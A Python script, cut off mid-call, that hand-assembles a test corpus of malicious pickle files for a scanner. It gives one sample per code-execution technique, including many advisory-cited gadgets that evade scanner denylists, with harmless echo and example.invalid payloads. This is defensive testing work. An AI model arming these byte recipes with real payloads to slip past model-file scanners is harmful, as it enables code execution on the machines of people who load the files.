#!/usr/bin/env python3
"""Build brine's malicious corpus: hand-assembled pickles, one sample per technique.

Every sample is written opcode by opcode from the byte constants below. Nothing here
ever unpickles anything: the only pickle-related module used is ``pickletools``, and only
``pickletools.genops`` (a disassembler that does not execute) to check the structure of
what we wrote.

Payloads are harmless on purpose (``echo brine-test``, ``print('brine-test')``, paths under
/tmp/brine-test*, hosts under example.invalid) -- but the files are still real exploits for
a loader that trusts them: never load them with pickle, torch.load, numpy.load or joblib.

Usage:  /usr/bin/python3 corpus/make_malicious.py
Writes corpus/malicious/<name> and corpus/malicious/manifest.json. The output is
deterministic (two runs give identical bytes). Sources for each technique are listed in
docs/advisories.md.
"""

import io
import json
import os
import pickletools
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = os.path.join(HERE, "malicious")
MANIFEST = os.path.join(OUT_DIR, "manifest.json")

PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
FK = "https://github.com/trailofbits/fickling/security/advisories/"
MS = "https://github.com/protectai/modelscan/"

CMD = "echo brine-test"
SRC = "print('brine-test')"
URL = "http://brine-test.example.invalid/"

# --------------------------------------------------------------------------- opcodes
MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
REDUCE = b"R"
BUILD = b"b"
INST = b"i"
OBJ = b"o"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
TUPLE = b"t"
EMPTY_TUPLE = b")"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
LIST = b"l"
EMPTY_LIST = b"]"
APPEND = b"a"
APPENDS = b"e"
EMPTY_DICT = b"}"
SETITEM = b"s"
SETITEMS = b"u"
MEMOIZE = b"\x94"
BINPERSID = b"Q"
EXT1 = b"\x82"
EXT2 = b"\x83"
EXT4 = b"\x84"
FRAME = b"\x95"


def proto(n):
    return b"\x80" + bytes([n])


def frame(body):
    """A FRAME that tells the truth: it covers exactly ``body`` (which ends with STOP)."""
    return FRAME + struct.pack("<Q", len(body)) + body


def p4(body):
    """Protocol 4 stream framed the way CPython frames a small pickle."""
    return proto(4) + frame(body + STOP)


def p2(body):
    return proto(2) + body + STOP


def glob(module, name):
    """GLOBAL opcode (protocol 0 text form, valid in every protocol)."""
    return b"c" + module.encode("ascii") + b"\n" + name.encode("ascii") + b"\n"


def inst(module, name):
    return INST + module.encode("ascii") + b"\n" + name.encode("ascii") + b"\n"


def s0(text):
    """Protocol 0 STRING (quoted, newline-terminated)."""
    q = '"' if "'" in text else "'"
    assert q not in text and "\\" not in text and "\n" not in text
    return b"S" + (q + text + q).encode("ascii") + b"\n"


def v0(text):
    """Protocol 0 UNICODE (raw-unicode-escape, newline-terminated)."""
    assert "\\" not in text and "\n" not in text
    return b"V" + text.encode("raw_unicode_escape") + b"\n"


def sbs(text):
    """Protocol 1 SHORT_BINSTRING."""
    raw = text.encode("ascii")
    return b"U" + bytes([len(raw)]) + raw


def u(text):
    """SHORT_BINUNICODE, or BINUNICODE when longer than 255 bytes."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def xu(text):
    """BINUNICODE (what protocol 2 writes)."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def u8(text):
    """BINUNICODE8 (protocol 4)."""
    raw = text.encode("utf-8")
    return b"\x8d" + struct.pack("<Q", len(raw)) + raw


def by(data):
    """SHORT_BINBYTES / BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def i(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def binput(n):
    return b"q" + bytes([n])


def binget(n):
    return b"h" + bytes([n])


def long_binput(n):
    return b"r" + struct.pack("<I", n)


def long_binget(n):
    return b"j" + struct.pack("<I", n)


def put(n):
    return b"p" + str(n).encode("ascii") + b"\n"


def get(n):
    return b"g" + str(n).encode("ascii") + b"\n"


def sg(module, name):
    """STACK_GLOBAL from two constant strings."""
    return u(module) + u(name) + STACK_GLOBAL


def tup(*items):
    if not items:
        return EMPTY_TUPLE
    if len(items) <= 3:
        return b"".join(items) + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
    return MARK + b"".join(items) + TUPLE


def lst(*items):
    if not items:
        return EMPTY_LIST
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dct(*pairs):
    if not pairs:
        return EMPTY_DICT
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS


def call(func, *args):
    """func(*args) through REDUCE; func and args are byte snippets that each push one value."""
    return func + tup(*args) + REDUCE


# ----------------------------------------------------------- torch / numpy building blocks
def od(*pairs):
    """collections.OrderedDict() then SETITEMS, the way torch.save writes a state dict."""
    body = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    if pairs:
        body += MARK + b"".join(k + v for k, v in pairs) + SETITEMS
    return body


def storage_pid(key, numel):
    """The persistent id torch.save writes for a storage, then BINPERSID."""
    return (MARK + xu("storage") + glob("torch", "FloatStorage") + xu(key) + xu("cpu")
            + i(numel) + TUPLE + BINPERSID)


def tensor(key="0", numel=4, hooks=None):
    """torch._utils._rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks)."""
    if hooks is None:
        hooks = od()
    return (glob("torch._utils", "_rebuild_tensor_v2") + MARK + storage_pid(key, numel)
            + i(0) + tup(i(numel)) + tup(i(1)) + NEWFALSE + hooks + TUPLE + REDUCE)


def os_system_call(cmd=CMD):
    return call(glob("os", "system"), xu(cmd))


def inner_payload():
    """A small protocol 2 pickle calling os.system, used as nested-pickle bytes."""
    return p2(os_system_call())


def benign_state_dict():
    return p2(od((xu("weight"), tensor())))


def torch_zip(members):
    """A stored (uncompressed) zip laid out like torch.save output, with fixed metadata."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED
            info.create_system = 3
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)
    return buf.getvalue()


FLOATS = struct.pack("<4f", 0.0, 1.0, 2.0, 3.0)

# --------------------------------------------------------------------------- samples
SAMPLES = []


def add(name, data, expect, must_report, technique, advisory=None, kind="pickle"):
    """kind: pickle | multi | trailing | malformed | zip"""
    assert expect in ("malicious", "unapproved", "error")
    SAMPLES.append(dict(name=name, data=data, expect=expect, must_report=list(must_report),
                        technique=technique, advisory=advisory, kind=kind))


# ---- direct gadgets, classic encodings -------------------------------------------------
add("tech_os_system_p0.pkl",
    glob("os", "system") + MARK + s0(CMD) + TUPLE + REDUCE + STOP,
    "malicious", ["os.system"],
    "protocol 0 text pickle: GLOBAL os system, MARK/STRING/TUPLE, REDUCE")
add("tech_os_system_p2.pkl",
    proto(2) + glob("os", "system") + binput(0) + xu(CMD) + binput(1) + TUPLE1 + binput(2)
    + REDUCE + binput(3) + STOP,
    "malicious", ["os.system"],
    "protocol 2 binary pickle as pickle.dumps writes it: GLOBAL + BINUNICODE + TUPLE1 + REDUCE with BINPUTs")
add("tech_os_system_p4_stack_global.pkl",
    p4(u("os") + MEMOIZE + u("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE + u(CMD) + MEMOIZE
       + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE),
    "malicious", ["os.system"],
    "protocol 4 framed pickle: SHORT_BINUNICODE module/name + STACK_GLOBAL + REDUCE, with MEMOIZE")
add("tech_posix_system.pkl", p2(call(glob("posix", "system"), xu(CMD))),
    "malicious", ["os.system"], "posix.system: the name os.system pickles as on Linux")
add("tech_nt_system.pkl", p2(call(glob("nt", "system"), xu(CMD))),
    "malicious", ["os.system"], "nt.system: the name os.system pickles as on Windows")
add("tech_subprocess_popen.pkl",
    p2(call(glob("subprocess", "Popen"), lst(xu("echo"), xu("brine-test")))),
    "malicious", ["subprocess.Popen"], "subprocess.Popen(['echo', 'brine-test']) via REDUCE")
add("tech_subprocess_check_output.pkl",
    p4(call(sg("subprocess", "check_output"), lst(u("echo"), u("brine-test")))),
    "malicious", ["subprocess.check_output"], "subprocess.check_output via STACK_GLOBAL + REDUCE")
add("tech_subprocess_run.pkl",
    p4(call(sg("subprocess", "run"), lst(u("echo"), u("brine-test")))),
    "malicious", ["subprocess.run"], "subprocess.run via STACK_GLOBAL + REDUCE")
add("tech_builtins_eval.pkl", p2(call(glob("builtins", "eval"), xu(SRC))),
    "malicious", ["builtins.eval"], "builtins.eval of a Python expression")
add("tech_builtins_exec.pkl", p4(call(sg("builtins", "exec"), u(SRC))),
    "malicious", ["builtins.exec"], "builtins.exec of Python source (STACK_GLOBAL)")
add("tech_builtins_compile_then_exec.pkl",
    p4(call(sg("builtins", "exec"), call(sg("builtins", "compile"), u(SRC), u("<brine>"), u("exec")))),
    "malicious", ["builtins.exec", "builtins.compile"],
    "builtins.compile builds a code object that builtins.exec then runs")
add("tech_py2_builtin_eval_p0.pkl",
    glob("__builtin__", "eval") + MARK + s0(SRC) + TUPLE + REDUCE + STOP,
    "malicious", ["builtins.eval"],
    "Python 2 module name __builtin__ (pickle maps it to builtins when protocol < 3)")
add("tech_py2_commands_getoutput_p0.pkl",
    glob("commands", "getoutput") + MARK + s0(CMD) + TUPLE + REDUCE + STOP,
    "malicious", ["subprocess.getoutput"],
    "Python 2 module commands (pickle maps it to subprocess when protocol < 3)")
add("tech_getattr_import_os_system.pkl",
    p2(call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), xu("os")), xu("system")),
            xu(CMD))),
    "malicious", ["builtins.getattr", "builtins.__import__"],
    "getattr(__import__('os'), 'system')('echo ...'): os.system is reached without ever being a GLOBAL")
add("tech_builtins_open.pkl", p2(call(glob("builtins", "open"), xu("/tmp/brine-test.txt"), xu("w"))),
    "malicious", ["builtins.open"], "builtins.open in write mode: creates/truncates a file")
add("tech_webbrowser_open.pkl", p2(call(glob("webbrowser", "open"), xu(URL))),
    "malicious", ["webbrowser.open"], "webbrowser.open of a URL")
add("tech_runpy_run_code.pkl", p2(call(glob("runpy", "_run_code"), xu(SRC), EMPTY_DICT)),
    "malicious", ["runpy._run_code"], "runpy._run_code executes Python source (picklescan test malicious14)")
add("cve-2025-1716_pip_main.pkl",
    glob("pip", "main") + MARK + MARK + s0("--version") + LIST + TUPLE + REDUCE + STOP,
    "malicious", ["pip.main"],
    "pip.main(args) as the REDUCE callable, protocol 0 (picklescan < 0.0.21 did not list pip)",
    PS + "GHSA-655q-fx9r-782v")
add("ghsa-q5qq-mvfm-j35x_importlib_import_module_getattr.pkl",
    p4(call(call(sg("builtins", "getattr"), call(sg("importlib", "import_module"), u("os")), u("system")),
            u(CMD))),
    "malicious", ["importlib.import_module", "builtins.getattr"],
    "importlib.import_module('os') then getattr(..., 'system'): arbitrary import + attribute access",
    FK + "GHSA-q5qq-mvfm-j35x")
add("ghsa-vvpj-8cmc-gx39_pkgutil_resolve_name.pkl",
    p4(call(call(sg("pkgutil", "resolve_name"), u("os:system")), u(CMD))),
    "malicious", ["pkgutil.resolve_name"],
    "pkgutil.resolve_name('os:system') returns os.system from a data string: universal denylist bypass",
    PS + "GHSA-vvpj-8cmc-gx39")
add("ghsa-vqmv-47xg-9wpr_pty_spawn.pkl",
    p4(call(sg("pty", "spawn"), lst(u("/bin/sh"), u("-c"), u(CMD)))),
    "malicious", ["pty.spawn"], "pty.spawn runs a command on a pseudo-terminal", PS + "GHSA-vqmv-47xg-9wpr")
add("ghsa-r7v6-mfhq-g3m2_pty_spawn_reduce_then_build.pkl",
    p4(u("pty") + MEMOIZE + u("spawn") + MEMOIZE + STACK_GLOBAL + MEMOIZE + u("id") + MEMOIZE + TUPLE1
       + MEMOIZE + REDUCE + MEMOIZE + u("brine-test") + MEMOIZE + BUILD),
    "malicious", ["pty.spawn"],
    "pty.spawn('id') whose result then receives BUILD (fickling missed pty as an unsafe import)",
    FK + "GHSA-r7v6-mfhq-g3m2")
add("tech_socket_create_connection.pkl",
    p2(call(glob("socket", "create_connection"), tup(xu("brine-test.example.invalid"), i(80)))),
    "malicious", ["socket.create_connection"], "socket.create_connection to a remote host (network)")
add("tech_shutil_rmtree.pkl", p2(call(glob("shutil", "rmtree"), xu("/nonexistent/brine-test"))),
    "malicious", ["shutil.rmtree"], "shutil.rmtree of a directory tree (file system)")
add("tech_operator_attrgetter.pkl",
    p2(call(call(call(glob("operator", "attrgetter"), xu("system")), call(glob("builtins", "__import__"), xu("os"))),
            xu(CMD))),
    "malicious", ["operator.attrgetter", "builtins.__import__"],
    "operator.attrgetter('system')(__import__('os'))(cmd): getattr equivalent")
add("ghsa-46h3-79wf-xr6c__operator_attrgetter.pkl",
    p4(call(call(call(sg("_operator", "attrgetter"), u("system")), call(sg("builtins", "__import__"), u("os"))),
            u(CMD))),
    "malicious", ["operator.attrgetter", "builtins.__import__"],
    "_operator.attrgetter: the C module name of operator.attrgetter escaped an exact-name denylist",
    PS + "GHSA-46h3-79wf-xr6c")
add("ghsa-955r-x9j8-7rhh__operator_methodcaller.pkl",
    p2(call(call(glob("_operator", "methodcaller"), xu("system"), xu(CMD)),
            call(glob("builtins", "__import__"), xu("os")))),
    "malicious", ["operator.methodcaller", "builtins.__import__"],
    "_operator.methodcaller('system', cmd)(__import__('os')): calls os.system without naming it",
    PS + "GHSA-955r-x9j8-7rhh")
add("tech_functools_partial_os_system.pkl",
    p2(call(glob("functools", "partial"), glob("os", "system"), xu(CMD)) + EMPTY_TUPLE + REDUCE),
    "malicious", ["functools.partial", "os.system"],
    "functools.partial(os.system, cmd)() hides the real callee behind a partial object")
add("ghsa-84r2-jw7c-4r5q_pydoc_locate_methodcaller.pkl",
    p2(call(call(glob("operator", "methodcaller"), xu("system"), xu(CMD)), call(glob("pydoc", "locate"), xu("os")))),
    "malicious", ["operator.methodcaller", "pydoc.locate"],
    "pydoc.locate('os') imports a module, operator.methodcaller calls system on it",
    PS + "GHSA-84r2-jw7c-4r5q")
add("tech_pickle_loads_nested.pkl",
    proto(3) + call(glob("pickle", "loads"), by(inner_payload())) + STOP,
    "malicious", ["pickle.loads"],
    "pickle.loads of an embedded protocol 2 os.system pickle (nested pickle; modelscan issue #267)")
add("tech__pickle_loads_nested.pkl",
    p4(call(sg("_pickle", "loads"), by(inner_payload()))),
    "malicious", ["pickle.loads"],
    "_pickle.loads (C accelerator name) of an embedded os.system pickle")
add("ghsa-fphw-536r-4p88_pickle_private_loads.pkl",
    p4(call(sg("pickle", "_loads"), by(inner_payload()))),
    "malicious", ["pickle._loads"],
    "pickle._loads, the pure-Python fallback that escaped fickling's runtime hook, on nested bytes",
    FK + "GHSA-fphw-536r-4p88")
add("ghsa-565g-hwwr-4pp3_marshal_types_functiontype.pkl",
    p4(call(call(sg("types", "FunctionType"),
                 call(sg("marshal", "loads"), by(b"brine-test: placeholder bytes, not a marshalled code object")),
                 EMPTY_DICT))),
    "malicious", ["types.FunctionType", "marshal.loads"],
    "marshal.loads -> code object, types.FunctionType(code, {}) -> function, then called (marshal bytes are a placeholder)",
    FK + "GHSA-565g-hwwr-4pp3")
add("ghsa-4675-36f9-wf6r_ctypes_cdll_getattr.pkl",
    p4(call(call(sg("builtins", "getattr"), call(sg("ctypes", "CDLL"), NONE), u("system")), by(CMD.encode()))),
    "malicious", ["ctypes.CDLL", "builtins.getattr"],
    "ctypes.CDLL(None) opens libc, getattr(lib, 'system')(b'echo ...') calls C system() (also fickling GHSA-q5qq-mvfm-j35x)",
    PS + "GHSA-4675-36f9-wf6r")
add("ghsa-q5qq-mvfm-j35x_code_interactiveinterpreter_runsource.pkl",
    p4(call(call(sg("builtins", "getattr"), call(sg("code", "InteractiveInterpreter")), u("runsource")), u(SRC))),
    "malicious", ["code.InteractiveInterpreter", "builtins.getattr"],
    "code.InteractiveInterpreter().runsource(src) through getattr",
    FK + "GHSA-q5qq-mvfm-j35x")
add("ghsa-cj3c-v495-4xqh_code_interactiveinterpreter_runcode.pkl",
    p4(call(sg("code", "InteractiveInterpreter.runcode"), call(sg("code", "InteractiveInterpreter")), u(SRC))),
    "malicious", ["code.InteractiveInterpreter.runcode", "code.InteractiveInterpreter"],
    "unbound method code.InteractiveInterpreter.runcode named by a dotted STACK_GLOBAL, self passed as argument",
    PS + "GHSA-cj3c-v495-4xqh")
add("ghsa-v7x6-rv5q-mhwc_timeit_timeit.pkl",
    p4(call(sg("timeit", "timeit"), u("pass"), u(SRC))),
    "malicious", ["timeit.timeit"], "timeit.timeit(stmt, setup) executes the setup source",
    "https://github.com/advisories/GHSA-v7x6-rv5q-mhwc")
add("ghsa-49gj-c84q-6qm9_cprofile_run.pkl", p4(call(sg("cProfile", "run"), u(SRC))),
    "malicious", ["cProfile.run"], "cProfile.run(src) calls exec", PS + "GHSA-49gj-c84q-6qm9")
add("ghsa-9w88-8rmg-7g2p_cprofile_runctx.pkl", p4(call(sg("cProfile", "runctx"), u(SRC), NONE, NONE)),
    "malicious", ["cProfile.runctx"], "cProfile.runctx(src, None, None) calls exec", PS + "GHSA-9w88-8rmg-7g2p")
add("ghsa-p523-jq9w-64x9_cprofile_run_memoized.pkl",
    proto(5) + frame(u("cProfile") + MEMOIZE + u("run") + MEMOIZE + STACK_GLOBAL + MEMOIZE + u(SRC) + MEMOIZE
                     + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP),
    "malicious", ["cProfile.run"], "cProfile.run in a protocol 5 framed pickle with MEMOIZE after every push",
    FK + "GHSA-p523-jq9w-64x9")
add("ghsa-7wx9-6375-f5wh_profile_run.pkl", p4(call(sg("profile", "run"), u(SRC))),
    "malicious", ["profile.run"],
    "module-level profile.run, missed by a denylist that only named profile.Profile.run",
    PS + "GHSA-7wx9-6375-f5wh")
add("ghsa-x696-vm39-cp64_profile_Profile_run.pkl",
    p4(call(sg("profile", "Profile.run"), call(sg("profile", "Profile")), u(SRC))),
    "malicious", ["profile.Profile.run", "profile.Profile"],
    "unbound profile.Profile.run(instance, src) via dotted STACK_GLOBAL", PS + "GHSA-x696-vm39-cp64")
add("ghsa-6vqj-c2q5-j97w_profile_Profile_runctx.pkl",
    p4(call(sg("profile", "Profile.runctx"), call(sg("profile", "Profile")), u(SRC), EMPTY_DICT, EMPTY_DICT)),
    "malicious", ["profile.Profile.runctx", "profile.Profile"],
    "unbound profile.Profile.runctx(instance, src, {}, {})", PS + "GHSA-6vqj-c2q5-j97w")
add("ghsa-5qwp-399c-mjwf_trace_Trace_run.pkl",
    p4(call(sg("trace", "Trace.run"), call(sg("trace", "Trace")), u(SRC))),
    "malicious", ["trace.Trace.run", "trace.Trace"],
    "unbound trace.Trace.run(instance, src) executes source", PS + "GHSA-5qwp-399c-mjwf")
add("ghsa-g344-hcph-8vgg_trace_Trace_runctx.pkl",
    p4(call(sg("trace", "Trace.runctx"), call(sg("trace", "Trace")), u(SRC), EMPTY_DICT, EMPTY_DICT)),
    "malicious", ["trace.Trace.runctx", "trace.Trace"],
    "unbound trace.Trace.runctx(instance, src, {}, {})", PS + "GHSA-g344-hcph-8vgg")
add("tech_bdb_Bdb_run.pkl",
    p4(call(sg("bdb", "Bdb.run"), call(sg("bdb", "Bdb")), u(SRC))),
    "malicious", ["bdb.Bdb.run", "bdb.Bdb"], "bdb.Bdb.run(instance, src): debugger executes source (picklescan test malicious15)")
add("tech_pdb_run.pkl", p4(call(sg("pdb", "run"), u(SRC))),
    "malicious", ["pdb.run"], "pdb.run(src): debugger executes source")
add("ghsa-fqq6-7vqf-w3fg_doctest_debug_script.pkl",
    p4(call(sg("doctest", "debug_script"), u(SRC), NEWTRUE)),
    "malicious", ["doctest.debug_script"], "doctest.debug_script(src, pm=True) executes source",
    PS + "GHSA-fqq6-7vqf-w3fg")
add("ghsa-xp4f-hrf8-rxw7_ensurepip_run_pip.pkl",
    p4(call(sg("ensurepip", "_run_pip"), lst(u("--version")))),
    "malicious", ["ensurepip._run_pip"], "ensurepip._run_pip(args) runs pip", PS + "GHSA-xp4f-hrf8-rxw7")
add("ghsa-655q-fx9r-782v_venv_create.pkl",
    p4(call(sg("venv", "create"), u("/tmp/brine-test-venv"))),
    "malicious", ["venv.create"], "venv.create builds an environment and can run pip (picklescan test malicious20)",
    PS + "GHSA-655q-fx9r-782v")
add("ghsa-655q-fx9r-782v_pydoc_pipepager.pkl",
    p4(call(sg("pydoc", "pipepager"), u(""), u(CMD))),
    "malicious", ["pydoc.pipepager"], "pydoc.pipepager(text, cmd) pipes into a shell command (picklescan test malicious18)",
    PS + "GHSA-655q-fx9r-782v")
add("ghsa-655q-fx9r-782v_torch_inductor_compile_file.pkl",
    p4(call(sg("torch._inductor.codecache", "compile_file"), u(""), u(""), lst(u("sh"), u("-c"), u(CMD)))),
    "malicious", ["torch._inductor.codecache.compile_file"],
    "torch._inductor.codecache.compile_file runs the given compiler command line (picklescan test malicious17)",
    PS + "GHSA-655q-fx9r-782v")
add("ghsa-655q-fx9r-782v_partial_torch_serialization_load.pkl",
    p4(call(sg("functools", "partial"), sg("torch.serialization", "load"), u("/tmp/brine-test-other.pt"))
       + EMPTY_TUPLE + REDUCE),
    "malicious", ["functools.partial", "torch.serialization.load"],
    "functools.partial(torch.load, other_file)() loads a second, unscanned checkpoint (picklescan test malicious19)",
    PS + "GHSA-655q-fx9r-782v")
add("ghsa-m273-6v24-x4m4_distutils_file_util_write_file.pkl",
    p4(call(sg("distutils.file_util", "write_file"), u("/tmp/brine-test.txt"), lst(u("brine-test")))),
    "malicious", ["distutils.file_util.write_file"], "distutils.file_util.write_file writes an arbitrary file",
    PS + "GHSA-m273-6v24-x4m4")
add("ghsa-r8g5-cgf2-4m4m_numpy_f2py_getlincoef.pkl",
    p4(call(sg("numpy.f2py.crackfortran", "getlincoef"), u(SRC), EMPTY_DICT)),
    "malicious", ["numpy.f2py.crackfortran.getlincoef"], "numpy.f2py.crackfortran.getlincoef evals its expression argument",
    PS + "GHSA-r8g5-cgf2-4m4m")
add("ghsa-q77w-mwjj-7mqx_asyncio_unix_subprocess_start.pkl",
    p4(call(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), EMPTY_DICT, u(CMD), NEWTRUE,
            NONE, NONE, NONE, i(0))),
    "malicious", ["asyncio.unix_events._UnixSubprocessTransport._start"],
    "unbound asyncio.unix_events._UnixSubprocessTransport._start spawns a shell command",
    PS + "GHSA-q77w-mwjj-7mqx")
add("cve-2025-10157_asyncio_submodule_global.pkl",
    p4(glob("asyncio.unix_events", "_UnixSubprocessTransport._start") + MEMOIZE + MARK + EMPTY_DICT + u(CMD)
       + NEWTRUE + NONE + NONE + NONE + i(0) + TUPLE + REDUCE),
    "malicious", ["asyncio.unix_events._UnixSubprocessTransport._start"],
    "GLOBAL with a submodule (asyncio.unix_events) of a denied module: exact module-name matching missed it",
    PS + "GHSA-f7qq-56ww-84cr")
add("tech_asyncio_create_subprocess_shell.pkl",
    p4(call(sg("asyncio", "run"), call(sg("asyncio", "create_subprocess_shell"), u(CMD)))),
    "malicious", ["asyncio.run", "asyncio.create_subprocess_shell"],
    "asyncio.run(asyncio.create_subprocess_shell(cmd))")
add("ghsa-q5qq-mvfm-j35x_multiprocessing_util_spawnv_passfds.pkl",
    p4(call(sg("multiprocessing.util", "spawnv_passfds"), by(b"/bin/sh"),
            lst(by(b"/bin/sh"), by(b"-c"), by(CMD.encode())), EMPTY_TUPLE)),
    "malicious", ["multiprocessing.util.spawnv_passfds"],
    "multiprocessing.util.spawnv_passfds spawns a process (also modelscan issue #338)",
    FK + "GHSA-q5qq-mvfm-j35x")
add("ghsa-g38g-8gr9-h9xp_uuid_get_command_stdout.pkl",
    p4(call(sg("uuid", "_get_command_stdout"), u("echo"), u("brine-test"))),
    "malicious", ["uuid._get_command_stdout"], "uuid._get_command_stdout(cmd, *args) runs a command via subprocess",
    PS + "GHSA-g38g-8gr9-h9xp")
add("ghsa-g38g-8gr9-h9xp_osx_support_read_output.pkl",
    p4(call(sg("_osx_support", "_read_output"), u(CMD))),
    "malicious", ["_osx_support._read_output"], "_osx_support._read_output(cmd) runs a shell command",
    PS + "GHSA-g38g-8gr9-h9xp")
add("ghsa-5hwf-rc88-82xm_osx_support_find_build_tool.pkl",
    p4(call(sg("_osx_support", "_find_build_tool"), u("x; echo brine-test #"))),
    "malicious", ["_osx_support._find_build_tool"],
    "_osx_support._find_build_tool(name) interpolates name into an os.system command",
    FK + "GHSA-5hwf-rc88-82xm")
add("ghsa-g38g-8gr9-h9xp_aix_support_read_cmd_output.pkl",
    p4(call(sg("_aix_support", "_read_cmd_output"), u(CMD))),
    "malicious", ["_aix_support._read_cmd_output"],
    "_aix_support._read_cmd_output(cmd) runs a shell command (also fickling GHSA-5hwf-rc88-82xm)",
    PS + "GHSA-g38g-8gr9-h9xp")
add("ghsa-g38g-8gr9-h9xp_imaplib_imap4_stream.pkl",
    p4(call(sg("imaplib", "IMAP4_stream"), u(CMD))),
    "malicious", ["imaplib.IMAP4_stream"], "imaplib.IMAP4_stream(cmd) runs cmd as its transport",
    PS + "GHSA-g38g-8gr9-h9xp")
add("ghsa-g38g-8gr9-h9xp_pyrepl_pager_pipe_pager.pkl",
    p4(call(sg("_pyrepl.pager", "pipe_pager"), u("brine-test"), u(CMD))),
    "malicious", ["_pyrepl.pager.pipe_pager"], "_pyrepl.pager.pipe_pager(text, cmd) pipes into a shell command (Python 3.13+)",
    PS + "GHSA-g38g-8gr9-h9xp")
add("ghsa-g38g-8gr9-h9xp_test_support_script_helper.pkl",
    p4(call(sg("test.support.script_helper", "assert_python_ok"), u("-c"), u(SRC))),
    "malicious", ["test.support.script_helper.assert_python_ok"],
    "test.support.script_helper.assert_python_ok spawns a Python interpreter with arbitrary arguments",
    PS + "GHSA-g38g-8gr9-h9xp")
add("ghsa-pc6j-px3p-rrj4_test_support_import_and_getattr.pkl",
    p4(call(call(sg("test.support", "get_attribute"),
                 call(sg("test.support.import_helper", "import_module"), u("os")), u("system")), u(CMD))),
    "malicious", ["test.support.get_attribute", "test.support.import_helper.import_module"],
    "import and getattr gadgets from the CPython test package (gadget choice is ours; advisory text not stored)",
    FK + "GHSA-pc6j-px3p-rrj4")
add("tech_torch_load.pkl", p2(call(glob("torch", "load"), xu("/tmp/brine-test-other.pt"))),
    "malicious", ["torch.load"], "torch.load of a second file (nested, unscanned unpickling)")
add("tech_torch_hub_load.pkl",
    p2(call(glob("torch.hub", "load"), xu("example-invalid/brine-test"), xu("model"))),
    "malicious", ["torch.hub.load"], "torch.hub.load downloads a repository and runs its hubconf.py")
add("tech_torch_jit_load.pkl", p2(call(glob("torch.jit", "load"), xu("/tmp/brine-test-script.pt"))),
    "malicious", ["torch.jit.load"], "torch.jit.load of a TorchScript archive, whose code then runs")
add("tech_numpy_load.pkl",
    p2(call(glob("numpy", "load"), xu("/tmp/brine-test.npy"), NONE, NEWTRUE)),
    "malicious", ["numpy.load"], "numpy.load(path, None, allow_pickle=True) unpickles a second file")
add("tech_numpy_testing_runstring.pkl",
    p4(call(sg("numpy.testing._private.utils", "runstring"), u(SRC), EMPTY_DICT)),
    "malicious", ["numpy.testing._private.utils.runstring"],
    "numpy.testing._private.utils.runstring(src, {}) is exec (picklescan test malicious22)")
add("ghsa-f745-w6jp-hpxx_torch_collect_env_run.pkl",
    p4(call(sg("torch.utils.collect_env", "run"), u(CMD))),
    "malicious", ["torch.utils.collect_env.run"], "torch.utils.collect_env.run(cmd) runs a shell command",
    PS + "GHSA-f745-w6jp-hpxx")
add("ghsa-jhph-76pp-mggw_torch_collect_env_run_and_read_all.pkl",
    p4(call(sg("torch.utils.collect_env", "run_and_read_all"), sg("torch.utils.collect_env", "run"), u(CMD))),
    "malicious", ["torch.utils.collect_env.run_and_read_all", "torch.utils.collect_env.run"],
    "torch.utils.collect_env.run_and_read_all(run, cmd)", PS + "GHSA-jhph-76pp-mggw")
add("ghsa-4r9r-ch6f-vxmx_torch_bottleneck_run_cprofile.pkl",
    p4(call(sg("torch.utils.bottleneck.__main__", "run_cprofile"), u(SRC), EMPTY_DICT)),
    "malicious", ["torch.utils.bottleneck.__main__.run_cprofile"],
    "torch.utils.bottleneck.__main__.run_cprofile(src, globs) execs source", PS + "GHSA-4r9r-ch6f-vxmx")
add("ghsa-4whj-rm5r-c2v8_torch_bottleneck_run_autograd_prof.pkl",
    p4(call(sg("torch.utils.bottleneck.__main__", "run_autograd_prof"), u(SRC), EMPTY_DICT)),
    "malicious", ["torch.utils.bottleneck.__main__.run_autograd_prof"],
    "torch.utils.bottleneck.__main__.run_autograd_prof(src, globs) execs source", PS + "GHSA-4whj-rm5r-c2v8")
add("ghsa-86cj-95qr-2p4f_torch_dynamo_guardbuilder_get.pkl",
    p4(call(sg("torch._dynamo.guards", "GuardBuilder.get"), EMPTY_DICT, u(SRC))),
    "malicious", ["torch._dynamo.guards.GuardBuilder.get"], "unbound GuardBuilder.get(self, expr) evals expr",
    PS + "GHSA-86cj-95qr-2p4f")
add("ghsa-f4x7-rfwp-v3xw_torch_symbolic_shapes_evaluate_guards_expression.pkl",
    p4(call(sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
            EMPTY_DICT, u(SRC), EMPTY_LIST)),
    "malicious", ["torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression"],
